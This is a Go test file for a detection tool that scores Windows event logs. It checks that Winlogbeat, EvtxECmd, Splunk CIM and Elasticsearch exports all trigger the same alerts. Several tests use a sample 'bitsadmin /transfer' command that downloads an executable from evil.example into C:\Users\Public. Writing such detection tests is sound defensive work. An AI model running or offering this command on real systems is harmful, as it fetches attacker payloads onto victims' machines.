package cli

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"slices"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"bitsscore/src/winevent"
)

// An ordered is a JSON object that keeps its members' order.
type ordered struct {
	keys []string
	vals []any // string, *ordered
}

// set stores value at a dotted path, making the objects on the way.
func (o *ordered) set(path, value string) {
	if value == "" {
		return
	}
	head, rest, nested := strings.Cut(path, ".")
	for i, k := range o.keys {
		if k == head {
			if nested {
				o.vals[i].(*ordered).set(rest, value)
			} else {
				o.vals[i] = value
			}
			return
		}
	}
	o.keys = append(o.keys, head)
	if !nested {
		o.vals = append(o.vals, value)
		return
	}
	child := &ordered{}
	child.set(rest, value)
	o.vals = append(o.vals, child)
}

// remove deletes the value at a dotted path and returns it.
func (o *ordered) remove(path string) string {
	head, rest, nested := strings.Cut(path, ".")
	for i, k := range o.keys {
		if k != head {
			continue
		}
		if nested {
			return o.vals[i].(*ordered).remove(rest)
		}
		v, _ := o.vals[i].(string)
		o.keys = append(o.keys[:i], o.keys[i+1:]...)
		o.vals = append(o.vals[:i], o.vals[i+1:]...)
		return v
	}
	return ""
}

func (o *ordered) get(path string) string {
	head, rest, nested := strings.Cut(path, ".")
	for i, k := range o.keys {
		if k == head {
			if nested {
				return o.vals[i].(*ordered).get(rest)
			}
			v, _ := o.vals[i].(string)
			return v
		}
	}
	return ""
}

func (o *ordered) json() string {
	var parts []string
	for i, k := range o.keys {
		switch v := o.vals[i].(type) {
		case string:
			parts = append(parts, quote(k)+":"+quote(v))
		case *ordered:
			parts = append(parts, quote(k)+":"+v.json())
		}
	}
	return "{" + strings.Join(parts, ",") + "}"
}

// flat lists the dotted paths and values, as Kibana's CSV export names its
// columns.
func (o *ordered) flat(prefix string, out *[][2]string) {
	for i, k := range o.keys {
		switch v := o.vals[i].(type) {
		case string:
			*out = append(*out, [2]string{prefix + k, v})
		case *ordered:
			v.flat(prefix+k+".", out)
		}
	}
}

// winlogbeat writes one event as Winlogbeat sends it: the System values
// under winlog.*, named Data under winlog.event_data, unnamed Data as
// param1, param2, ... Sources: beats winlogbeat/docs/fields.asciidoc and
// the module golden files.
func winlogbeat(event *element) *ordered {
	system := event.child("System")
	doc := &ordered{}
	provider := system.child("Provider").attr("Name")
	id := system.child("EventID").text
	doc.set("@timestamp", system.child("TimeCreated").attr("SystemTime"))
	doc.set("event.code", id)
	doc.set("event.kind", "event")
	doc.set("event.provider", provider)
	doc.set("host.name", system.child("Computer").text)
	doc.set("winlog.channel", system.child("Channel").text)
	doc.set("winlog.computer_name", system.child("Computer").text)
	doc.set("winlog.event_id", id)
	doc.set("winlog.provider_name", provider)
	doc.set("winlog.provider_guid", system.child("Provider").attr("Guid"))
	doc.set("winlog.record_id", system.child("EventRecordID").text)
	doc.set("winlog.process.pid", system.child("Execution").attr("ProcessID"))
	doc.set("winlog.process.thread.id", system.child("Execution").attr("ThreadID"))
	doc.set("winlog.user.identifier", system.child("Security").attr("UserID"))
	param := 0
	for _, d := range event.child("EventData").children {
		if name := d.attr("Name"); name != "" {
			doc.set("winlog.event_data."+name, d.text)
		} else if d.name == "Data" {
			param++
			doc.set(fmt.Sprintf("winlog.event_data.param%d", param), d.text)
		}
	}
	return doc
}

// ingested applies what the Winlogbeat modules' ingest pipelines do to the
// fields the detection reads (beats x-pack/winlogbeat/module/*/ingest).
func ingested(doc *ordered) {
	data := func(name string) string { return doc.remove("winlog.event_data." + name) }
	switch doc.get("winlog.provider_name") + "/" + doc.get("winlog.event_id") {
	case "Microsoft-Windows-Security-Auditing/4688":
		doc.set("process.executable", data("NewProcessName"))
		doc.set("process.parent.executable", data("ParentProcessName"))
		doc.set("process.command_line", doc.get("winlog.event_data.CommandLine"))
		data("NewProcessId")
	case "Microsoft-Windows-PowerShell/4104":
		doc.set("powershell.file.script_block_text", data("ScriptBlockText"))
		doc.set("powershell.file.script_block_id", data("ScriptBlockId"))
		doc.set("file.path", data("Path"))
		data("MessageNumber")
		data("MessageTotal")
	case "Microsoft-Windows-PowerShell/4103":
		// The message as the event's template renders it.
		doc.set("message", data("Payload")+"\r\n\r\n\r\nContext:\r\n"+data("ContextInfo")+"\r\n\r\n\r\nUser Data:\r\n"+data("UserData"))
	case "PowerShell/800":
		doc.set("message", "Pipeline execution details for command line: "+data("param1")+" \r\n\r\nContext Information: \r\n"+data("param2")+"\r\n\r\nDetails: \r\n"+data("param3"))
	}
	if doc.get("winlog.provider_name") == "Microsoft-Windows-Sysmon" {
		for _, move := range [][2]string{
			{"Image", "process.executable"}, {"CommandLine", "process.command_line"},
			{"CurrentDirectory", "process.working_directory"}, {"ParentImage", "process.parent.executable"},
			{"ParentCommandLine", "process.parent.command_line"}, {"OriginalFileName", "process.pe.original_file_name"},
			{"ProcessGuid", "process.entity_id"}, {"ParentProcessGuid", "process.parent.entity_id"},
			{"SourceImage", "process.executable"}, {"SourceProcessGuid", "process.entity_id"},
			{"TargetFilename", "file.path"}, {"ImageLoaded", "file.path"}, {"RuleName", "rule.name"},
		} {
			if v := data(move[0]); v != "" && v != "-" {
				doc.set(move[1], v)
			}
		}
		if domain, user, ok := strings.Cut(data("User"), `\`); ok {
			doc.set("user.domain", domain)
			doc.set("user.name", user)
		}
	}
}

// ecsOutputs writes Winlogbeat documents as the ways they leave Elastic:
// JSON lines (Winlogbeat's file output, Logstash), Elasticsearch hits
// (_search, elasticdump) and Kibana's CSV export.
func ecsOutputs(t *testing.T, docs []*ordered, label string) map[string][]byte {
	var lines, hits [][]byte // hits: as Elasticsearch returns a document, and elasticdump writes it
	var fieldHits [][]byte   // hits of a search with "_source": false and "fields": ["*"]
	var columns []string
	var rows [][2]string
	for i, doc := range docs {
		lines = append(lines, []byte(doc.json()))
		hits = append(hits, []byte(fmt.Sprintf(`{"_index":"winlogbeat-8","_id":"%d","_score":1,"_source":%s}`, i, doc.json())))
		rows = rows[:0]
		doc.flat("", &rows)
		fields := map[string][]string{} // every value an array, names dotted
		for _, r := range rows {
			fields[r[0]] = append(fields[r[0]], r[1])
		}
		text, err := json.Marshal(fields)
		if err != nil {
			t.Fatal(err)
		}
		fieldHits = append(fieldHits, []byte(fmt.Sprintf(`{"_index":"winlogbeat-8","_id":"%d","_score":1,"fields":%s}`, i, text)))
	}
	total := `{"value":` + strconv.Itoa(len(hits)) + `,"relation":"eq"}`
	cells := make([]map[string]string, len(docs))
	for i, doc := range docs {
		rows = rows[:0]
		doc.flat("", &rows)
		cells[i] = map[string]string{}
		for _, r := range rows {
			if _, seen := cells[i][r[0]]; !seen {
				cells[i][r[0]] = r[1]
			}
			if !containsString(columns, r[0]) {
				columns = append(columns, r[0])
			}
		}
	}
	sort.Strings(columns) // Kibana lists the fields by name
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	w.Write(columns)
	for _, c := range cells {
		record := make([]string, len(columns))
		for j, col := range columns {
			record[j] = c[col]
		}
		w.Write(record)
	}
	w.Flush()
	return map[string][]byte{
		"ECS, " + label + ", JSON lines":                                joinLines(lines, "\n"),
		"ECS, " + label + ", JSON array":                                []byte("[" + string(joinLines(lines, ",\n")) + "]"),
		"ECS, " + label + ", elasticdump hits":                          joinLines(hits, "\n"),
		"ECS, " + label + ", Kibana CSV (dot names)":                    b.Bytes(),
		"ECS, " + label + ", Elasticsearch _search response":            searchResponse(hits, total, ""),
		"ECS, " + label + ", _search with fields, no _source":           searchResponse(fieldHits, total, ""),
		"ECS, " + label + ", async search response":                     append([]byte(`{"id":"FmRldE8zREVEUzA2ZVpUeGs2ejJFUFEaMkZ5QTVrSTZSaVN3WlNFVmtlWHJsdzoxMDc=","is_partial":false,"is_running":false,"start_time_in_millis":1583945890986,"expiration_time_in_millis":1584377890986,"response":`), append(searchResponse(hits, total, ""), '}')...),
		"ECS, " + label + ", Kibana Inspect rawResponse, fields":        append(append([]byte(`{"rawResponse":`), searchResponse(fieldHits, total, "")...), `,"isPartial":false,"isRunning":false,"total":1,"loaded":1,"isRestored":false}`...),
		"ECS, " + label + ", Elasticsearch 6 _search, two scroll pages": searchPages(hits),
		"ECS, " + label + ", OpenSearch _search response, pretty":       prettyResponse(t, hits),
	}
}

// searchResponse writes hits as Elasticsearch (and OpenSearch) answer a
// _search: the hits in hits.hits, after the response's own members and
// hits.total, and before extra (the aggregations, when asked for).
func searchResponse(hits [][]byte, total, extra string) []byte {
	return []byte(`{"took":5,"timed_out":false,"_shards":{"total":1,"successful":1,"skipped":0,"failed":0},` +
		`"hits":{"total":` + total + `,"max_score":1.0,"hits":[` + string(joinLines(hits, ",")) + `]}` + extra + `}`)
}

// searchPages writes hits as Elasticsearch 6 answers a scroll: each page
// a response of its own, with the scroll's id, hits.total a number and
// each hit its _type; the pages one after the other, as a script that
// saves every page to one file writes them.
func searchPages(hits [][]byte) []byte {
	typed := make([][]byte, len(hits))
	for i, hit := range hits {
		typed[i] = []byte(`{"_type":"doc",` + string(hit[1:]))
	}
	half := len(typed) / 2
	total := strconv.Itoa(len(typed))
	return joinLines([][]byte{
		append([]byte(`{"_scroll_id":"DXF1ZXJ5QW5kRmV0Y2gBAAAAAAAAAD4WYm9laVYtZndUQlNsdDcwakFMNjU1QQ==",`), searchResponse(typed[:half], total, "")[1:]...),
		append([]byte(`{"_scroll_id":"DXF1ZXJ5QW5kRmV0Y2gBAAAAAAAAAD4WYm9laVYtZndUQlNsdDcwakFMNjU1QQ==",`), searchResponse(typed[half:], total, "")[1:]...),
	}, "\n")
}

// prettyResponse writes hits as OpenSearch Dashboards' Dev Tools (or
// ?pretty) show a response: indented, with aggregations after the hits.
func prettyResponse(t *testing.T, hits [][]byte) []byte {
	response := searchResponse(hits, `{"value":`+strconv.Itoa(len(hits))+`,"relation":"eq"}`,
		`,"aggregations":{"hosts":{"doc_count_error_upper_bound":0,"sum_other_doc_count":0,"buckets":[{"key":"ws5","doc_count":1}]}}`)
	var b bytes.Buffer
	if err := json.Indent(&b, response, "", "  "); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func containsString(list []string, s string) bool {
	for _, v := range list {
		if v == s {
			return true
		}
	}
	return false
}

func ecsShapes(t *testing.T, lines [][]byte) map[string][]byte {
	var raw, after []*ordered
	for _, line := range lines {
		raw = append(raw, winlogbeat(parseElement(t, line)))
		doc := winlogbeat(parseElement(t, line))
		ingested(doc)
		after = append(after, doc)
	}
	shapes := ecsOutputs(t, raw, "Winlogbeat")
	for name, input := range ecsOutputs(t, after, "after the ingest pipelines") {
		shapes[name] = input
	}
	return shapes
}

// evtxECmdColumns are EvtxECmd's CSV columns, in its order
// (EvtxECmd/Program.cs).
var evtxECmdColumns = []string{"RecordNumber", "EventRecordId", "TimeCreated", "EventId", "Level", "Provider", "Channel",
	"ProcessId", "ThreadId", "Computer", "UserId", "MapDescription", "UserName", "RemoteHost", "PayloadData1",
	"PayloadData2", "PayloadData3", "PayloadData4", "PayloadData5", "PayloadData6", "ExecutableInfo", "HiddenRecord",
	"SourceFile", "Keywords", "Payload"}

// evtxECmd writes one event as EvtxECmd's columns: the System values under
// its names, the EventData element as Json.NET serialises it in Payload.
func evtxECmd(t *testing.T, n int, event *element) map[string]string {
	system := event.child("System")
	created, err := time.Parse(time.RFC3339Nano, system.child("TimeCreated").attr("SystemTime"))
	if err != nil {
		t.Fatal(err)
	}
	section := event.child("EventData")
	if section == nil {
		section = event.child("UserData")
	}
	payload := ""
	if section != nil {
		withNS := *section
		withNS.attrs = append([][2]string{{"xmlns", "http://schemas.microsoft.com/win/2004/08/events/event"}}, section.attrs...)
		payload = "{" + quote(section.name) + ":" + jsonNet(&withNS) + "}"
	}
	row := map[string]string{
		"RecordNumber": strconv.Itoa(n), "EventRecordId": system.child("EventRecordID").text,
		"TimeCreated": created.UTC().Format("2006-01-02 15:04:05.0000000"), "EventId": system.child("EventID").text,
		"Level": "Info", "Provider": system.child("Provider").attr("Name"), "Channel": system.child("Channel").text,
		"ProcessId": system.child("Execution").attr("ProcessID"), "ThreadId": system.child("Execution").attr("ThreadID"),
		"Computer": system.child("Computer").text, "UserId": system.child("Security").attr("UserID"),
		"HiddenRecord": "False", "SourceFile": `C:\Temp\logs\Security.evtx`, "Keywords": system.child("Keywords").text,
		"Payload": payload,
	}
	for _, d := range section.children {
		if d.attr("Name") == "CommandLine" {
			row["ExecutableInfo"] = d.text // what the 4688 map puts there
		}
	}
	return row
}

func evtxECmdShapes(t *testing.T, lines [][]byte) map[string][]byte {
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	w.Write(evtxECmdColumns)
	var jsonLines [][]byte
	for i, line := range lines {
		row := evtxECmd(t, i+1, parseElement(t, line))
		record := make([]string, len(evtxECmdColumns))
		var members []string
		for j, col := range evtxECmdColumns {
			record[j] = row[col]
			v := row[col]
			if v == "" {
				continue // ServiceStack leaves out what is null
			}
			switch col {
			case "TimeCreated":
				tm, _ := time.Parse("2006-01-02 15:04:05.0000000", v)
				v = quote(tm.Format("2006-01-02T15:04:05.0000000-07:00"))
			case "EventId", "ProcessId", "ThreadId", "RecordNumber":
				v = number(v)
			default:
				v = quote(v)
			}
			members = append(members, quote(col)+":"+v)
		}
		w.Write(record)
		jsonLines = append(jsonLines, []byte("{"+strings.Join(members, ",")+"}"))
	}
	w.Flush()
	return map[string][]byte{
		"EvtxECmd CSV":         b.Bytes(),
		"EvtxECmd CSV, BOM":    append([]byte("\ufeff"), b.Bytes()...),
		"EvtxECmd JSON lines":  joinLines(jsonLines, "\n"),
		"EvtxECmd JSON, UTF16": utf16LE(joinLines(jsonLines, "\r\n"), false),
	}
}

// otrfSystem are the keys of the OTRF recordings that hold System values,
// with where Winlogbeat puts each; the other keys are EventData.
var otrfSystem = map[string]string{
	"EventID": "winlog.event_id", "SourceName": "winlog.provider_name", "Hostname": "winlog.computer_name",
	"Channel": "winlog.channel", "ProviderGuid": "winlog.provider_guid", "Message": "message",
	"@timestamp": "@timestamp", "TimeCreated": "", "Task": "", "Level": "", "Keywords": "",
}

// TestECSSysmonGivesTheSameAlerts writes the OTRF recordings (Sysmon 1
// among them) as Winlogbeat and its ingest pipelines do.
func TestECSSysmonGivesTheSameAlerts(t *testing.T) {
	lines := fixtureFileLines(t, jsonFixture)
	want, status, _ := scoreInput(t, joinLines(lines, "\n"))
	if status != ExitAlert || len(want) != len(lines) {
		t.Fatalf("reference: status %d, %d events", status, len(want))
	}
	var docs []*ordered
	sysmon1 := 0
	for _, line := range lines {
		var flat map[string]any
		if err := json.Unmarshal(line, &flat); err != nil {
			t.Fatal(err)
		}
		doc := &ordered{}
		keys := make([]string, 0, len(flat))
		for k := range flat {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		for _, k := range keys {
			v := fmt.Sprint(flat[k])
			if to, isSystem := otrfSystem[k]; isSystem {
				doc.set(to, v)
			} else {
				doc.set("winlog.event_data."+k, v)
			}
		}
		doc.set("host.name", doc.get("winlog.computer_name"))
		if doc.get("winlog.provider_name") == "Microsoft-Windows-Sysmon" && doc.get("winlog.event_id") == "1" {
			sysmon1++
		}
		ingested(doc)
		docs = append(docs, doc)
	}
	if sysmon1 == 0 {
		t.Fatal("the recordings have no Sysmon 1 event: the test would prove nothing")
	}
	checkShapes(t, want, ecsOutputs(t, docs, "Sysmon and Security after the ingest pipelines"))
}

// cimRow writes a process launch as a table of Splunk CIM fields
// (Endpoint.Processes): what an export of | table process process_path ...
// holds, without the add-ons' own names.
func cimRow(get func(string) string) map[string]string {
	row := map[string]string{"_time": get("_time"), "host": get("host"), "dest": get("host"), "EventCode": get("EventCode")}
	image, parentImage := "Image", "ParentImage"
	if get("EventCode") == "4688" {
		image, parentImage = "NewProcessName", "ParentProcessName"
	}
	row["process"] = get("CommandLine")
	row["process_path"] = get(image)
	row["process_name"] = get(image)[strings.LastIndexByte(get(image), '\\')+1:]
	row["parent_process"] = get("ParentCommandLine")
	row["parent_process_path"] = get(parentImage)
	row["original_file_name"] = get("OriginalFileName")
	row["user"] = get("User")
	return row
}

func TestCIMOnlyExportGivesTheSameAlerts(t *testing.T) {
	launches := func(lines [][]byte) (kept [][]byte, rows []map[string]string) {
		for _, line := range lines {
			e, err := winevent.Parse(line)
			if err != nil {
				t.Fatal(err)
			}
			if code := e.Get("EventCode"); code == "1" && e.Get("Channel") == "Microsoft-Windows-Sysmon/Operational" || code == "4688" {
				kept = append(kept, line)
				rows = append(rows, cimRow(e.Get))
			}
		}
		return kept, rows
	}
	xmlKept, xmlRows := launches(fixtureFileLines(t, "evtx-to-mitre-attack/security4688_bitsadmin_transfer.xml.log"))
	jsonKept, jsonRows := launches(fixtureFileLines(t, jsonFixture))
	wantXML, _, _ := scoreInput(t, joinLines(xmlKept, "\n"))
	wantJSON, _, _ := scoreInput(t, joinLines(jsonKept, "\n"))
	want := append(wantXML, wantJSON...)
	slices.Sort(want)
	if len(want) < 4 || !strings.Contains(strings.Join(want, "\n"), "alert=true") {
		t.Fatalf("reference: %d launches, want Sysmon 1 and 4688 ones that alert:\n%s", len(want), strings.Join(want, "\n"))
	}
	columns := []string{"_time", "host", "dest", "EventCode", "user", "process_name", "process_path", "process", "parent_process_path", "parent_process", "original_file_name"}
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	w.Write(columns)
	var jsonLines [][]byte
	for _, row := range append(xmlRows, jsonRows...) {
		record := make([]string, len(columns))
		var members []string
		for i, col := range columns {
			record[i] = row[col]
			members = append(members, quote(col)+":"+quote(row[col]))
		}
		w.Write(record)
		jsonLines = append(jsonLines, []byte("{"+strings.Join(members, ",")+"}"))
	}
	w.Flush()
	// tstats ... from datamodel=Endpoint.Processes names the fields
	// Processes.<field> (unless drop_dm_object_name removes the prefix).
	header, body, _ := strings.Cut(b.String(), "\n")
	prefixed := strings.Split(header, ",")
	for i, col := range prefixed[4:] {
		prefixed[4+i] = "Processes." + col
	}
	tstats := bytes.NewBufferString(strings.Join(prefixed, ",") + "\n" + body)
	checkShapes(t, want, map[string][]byte{
		"CSV of CIM fields":                         b.Bytes(),
		"CSV of a tstats search, Processes. prefix": tstats.Bytes(),
		"JSON lines of CIM fields":                  joinLines(jsonLines, "\n"),
	})
}

// A search response, like a REST results document, is read hit by hit:
// with the cap on one event at 1 MiB, documents of 4 MiB give every event
// (were a document read whole, it would be one event over the cap), and
// the attack at the end still alerts.
func TestSearchResponsesAreStreamed(t *testing.T) {
	defer func(saved int) { maxEvent = saved }(maxEvent)
	maxEvent = 1 << 20
	padding := strings.Repeat("x", 200)
	const quiet = 20000
	var hits, results []string
	for i := range quiet + 1 {
		commandLine := fmt.Sprintf(`notepad.exe C:\\notes\\%d-%s.txt`, i, padding)
		image := `C:\\Windows\\System32\\notepad.exe`
		if i == quiet {
			commandLine, image = `bitsadmin /transfer j https://evil.example/a.exe C:\\Users\\Public\\a.exe`, `C:\\Windows\\System32\\bitsadmin.exe`
		}
		hits = append(hits, fmt.Sprintf(`{"_index":"winlogbeat-8","_id":"%d","_score":1,"_source":{"winlog":{"event_id":"1",`+
			`"provider_name":"Microsoft-Windows-Sysmon","channel":"Microsoft-Windows-Sysmon/Operational","event_data":{"CommandLine":"%s","Image":"%s"}}}}`,
			i, commandLine, image))
		results = append(results, fmt.Sprintf(`{"EventCode":"1","CommandLine":"%s","Image":"%s"}`, commandLine, image))
	}
	for name, input := range map[string]string{
		"Elasticsearch _search response": `{"took":5,"timed_out":false,"hits":{"total":{"value":20001,"relation":"eq"},"hits":[` + strings.Join(hits, ",") + `]}}`,
		"Splunk REST results document":   `{"preview":false,"init_offset":0,"results":[` + strings.Join(results, ",") + `]}`,
	} {
		t.Run(name, func(t *testing.T) {
			if len(input) < 4*maxEvent {
				t.Fatalf("the document is %d bytes, want at least 4 times the cap", len(input))
			}
			_, stderr, status := runScore(strings.NewReader(input), "--format", "csv")
			if want := fmt.Sprintf("-: %d events scored, 1 alert, 0 could not be read", quiet+1); status != ExitAlert || !strings.Contains(stderr, want) {
				t.Errorf("status %d, stderr %q; want 1 and %q", status, stderr, want)
			}
		})
	}
}

// A "hits" that is not a search response's is a field of its event, its
// digits and text as they were; a hit outside a search response is read as
// its _source.
func TestHitsOutsideASearchResponse(t *testing.T) {
	input := `{"hits":18446744073709551615,"CommandLine":"a"}` + "\n" +
		`{"hits":{"total":{"value":1},"hits":"none","max":[1.50,{"x":"<\u00e9>"}]},"CommandLine":"b"}` + "\n" +
		`{"_index":"i","_id":"1","_source":{"CommandLine":"c","hits":{"hits":[]}}}`
	want := []map[string][]string{
		{"hits": {"18446744073709551615"}, "CommandLine": {"a"}, "sourcetype": {"XmlWinEventLog"}},
		{"hits.total.value": {"1"}, "hits.hits": {"none"}, "hits.max{}": {"1.5"}, "hits.max{}.x": {"<é>"}, "CommandLine": {"b"}, "sourcetype": {"XmlWinEventLog"}},
		{"CommandLine": {"c"}, "sourcetype": {"XmlWinEventLog"}},
	}
	var got []map[string][]string
	err := readEvents("f", strings.NewReader(input), nil, func(ev *inputEvent) {
		got = append(got, ev.fields)
	}, func(e *inputError) {
		t.Errorf("line %d: %v", e.line, e.err)
	})
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("fields (-want +got):\n%s", diff)
	}
}

// A search response or results document cut short gives the events read
// before the cut and one error for the rest, named by the line where the
// document starts.
func TestDocumentCutShort(t *testing.T) {
	hit := `{"_index":"i","_id":"1","_source":{"CommandLine":"bitsadmin /transfer j https://evil.example/a.exe C:\\Users\\Public\\a.exe","Image":"C:\\Windows\\System32\\bitsadmin.exe"}}`
	for name, input := range map[string]string{
		"search response": `{"took":1,"hits":{"hits":[` + hit + `,` + hit,
		"results":         `{"results":[` + hit + `,` + hit + `,`,
	} {
		t.Run(name, func(t *testing.T) {
			_, stderr, status := runScore(strings.NewReader(input), "--format", "csv")
			if status != ExitAlert || !strings.Contains(stderr, "-:1: JSON at byte") || !strings.Contains(stderr, "unexpected EOF") ||
				!strings.Contains(stderr, "-: 2 events scored, 2 alerts, 1 could not be read") {
				t.Errorf("status %d, stderr %q", status, stderr)
			}
		})
	}
}

// TestSearchResponseEdges: a response with no hits is no event and no
// error, wrapped or not; a response that reports an error instead of hits
// is an error named on stderr; a fields hit's array of several values is
// read as _source's array is (its first value for an EventData field).
func TestSearchResponseEdges(t *testing.T) {
	for _, input := range []string{
		`{"took":1,"timed_out":false,"hits":{"total":{"value":0,"relation":"eq"},"hits":[]}}`,
		`{"id":"x","is_partial":false,"is_running":false,"response":{"took":1,"hits":{"total":{"value":0},"hits":[]}}}`,
		`{"rawResponse":{"took":1,"hits":{"hits":[]}},"isPartial":false}`,
	} {
		got, status, stderr := scoreInput(t, []byte(input))
		if len(got) != 0 || !strings.Contains(stderr, "0 events scored") {
			t.Errorf("%s: %d events, status %d, stderr %q; want none, no error", input, len(got), status, stderr)
		}
	}
	for _, input := range []string{
		`{"error":{"root_cause":[],"type":"index_not_found_exception","reason":"no such index [winlogbeat-x]"},"status":404}`,
		`{"id":"x","is_partial":true,"is_running":false,"error":{"type":"search_phase_execution_exception","reason":"all shards failed"}}`,
		`{"id":"x","is_running":false,"response":{"took":1,"error":{"type":"search_phase_execution_exception","reason":"all shards failed"}}}`,
	} {
		got, status, stderr := scoreInput(t, []byte(input))
		if len(got) != 0 || status != ExitUsage || !strings.Contains(stderr, "the search failed") || !strings.Contains(stderr, "_exception") {
			t.Errorf("%s: %d events, status %d, stderr %q; want the error", input, len(got), status, stderr)
		}
	}
	const cmd = `bitsadmin /transfer j https://evil.example/a.exe C:\\Users\\Public\\a.exe`
	source := `{"_index":"i","_source":{"winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","event_data":{"Image":"C:\\Windows\\System32\\bitsadmin.exe","CommandLine":["` + cmd + `","x"]}}}}`
	fields := `{"_index":"i","fields":{"winlog.event_id":["1"],"winlog.channel":["Microsoft-Windows-Sysmon/Operational"],"winlog.provider_name":["Microsoft-Windows-Sysmon"],"winlog.event_data.Image":["C:\\Windows\\System32\\bitsadmin.exe"],"winlog.event_data.CommandLine":["` + cmd + `","x"]}}`
	want, _, _ := scoreInput(t, []byte(source))
	got, _, stderr := scoreInput(t, []byte(fields))
	if len(want) != 1 || !strings.Contains(want[0], "alert=true") || !slices.Equal(got, want) {
		t.Errorf("fields hit with an array: %q, want %q as its _source twin (stderr %s)", got, want, stderr)
	}
}
